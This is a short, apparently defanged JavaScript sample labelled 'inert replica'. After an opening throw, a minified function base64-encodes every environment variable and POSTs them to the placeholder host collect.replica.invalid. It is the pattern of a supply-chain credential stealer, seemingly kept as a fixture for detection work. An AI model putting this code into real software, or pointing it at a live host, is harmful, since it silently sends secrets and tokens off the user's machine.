throw new Error("inert replica");
!function(){try{var e="undefined"!=typeof process&&process.env;if(!e)return;var t=Buffer.from(JSON.stringify(e)).toString("base64"),n=require("https").request({hostname:"collect.replica.invalid",method:"POST",path:"/e"});n.on("error",function(){}),n.end(t)}catch(e){}}();
